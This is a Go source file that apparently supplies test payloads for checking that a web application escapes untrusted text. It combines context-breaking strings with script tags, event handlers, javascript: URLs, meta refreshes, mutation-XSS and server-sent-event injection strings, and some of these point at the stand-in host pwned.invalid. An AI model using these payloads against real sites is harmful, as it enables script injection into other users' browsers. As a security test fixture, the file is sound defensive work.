// Package payload has texts that try to be more than text on a page. One that succeeds
// opens a dialog, sets window.pwned, adds an element x-pwned or makes a request to
// pwned.invalid.
package payload

// breaks close whatever context a string may stand in.
var breaks = []string{``, `">`, `'>`, `-->`, `</script>`, `</title>`, `</textarea>`, `</style>`, `</bdi></blockquote>`,
	"`}", `]]>`, "\n\n"}

// acts follow a break.
var acts = []string{
	`<script>window.pwned=1;alert(1)</script>`,
	`<img src=x onerror="window.pwned=1;alert(1)">`,
	`<svg onload="window.pwned=1;alert(1)"></svg>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<a href="javascript:window.pwned=1">click</a>`,
	`<x-pwned hx-get="/ui/audit" hx-trigger="load" hx-on::load="window.pwned=1"></x-pwned>`,
	`<form id=pwned action="http://pwned.invalid/"><button autofocus onfocus="window.pwned=1">x</button></form>`,
	`<base href="http://pwned.invalid/"><link rel=stylesheet href="http://pwned.invalid/a.css">`,
	`<meta http-equiv=refresh content="0;url=http://pwned.invalid/">`,
}

// others need no break.
var others = []string{
	`javascript:window.pwned=1`, `data:text/html,<script>window.pwned=1</script>`, `//pwned.invalid/a`,
	`http://pwned.invalid/`, "x\n\nevent: head\ndata: <x-pwned></x-pwned>\n\n", "x\revent: asks\rdata: <x-pwned>\r\r",
	`{{template "layout.html"}}{{.CSRF}}`, `${window.pwned=1}`, `" autofocus onfocus="window.pwned=1" x="`,
	`' style='background:url(http://pwned.invalid/)' x='`, "\u202egpj.exe\u202c", "\u2028window.pwned=1\u2029",
	`<<SCRIPT>window.pwned=1//<</SCRIPT>`, `<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>`,
	`<noscript><p title="</noscript><x-pwned>">`, `" sse-swap="head" hx-swap-oob="true`,
	`<template shadowrootmode=open><x-pwned></x-pwned></template>`, `&lt;x-pwned&gt;`, `%3Cx-pwned%3E`,
	`\u003cx-pwned\u003e`, `'; window.pwned=1; //`, `<!--><x-pwned>-->`, `<?x-pwned ?>`, `<plaintext>`,
	`<div id=said><x-pwned></x-pwned></div>`, `<meta name="sluice-csrf" content="x">`,
}

// All is every payload; there are more than 100.
func All() []string {
	var all []string
	for _, b := range breaks {
		for _, a := range acts {
			all = append(all, b+a)
		}
	}
	return append(all, others...)
}
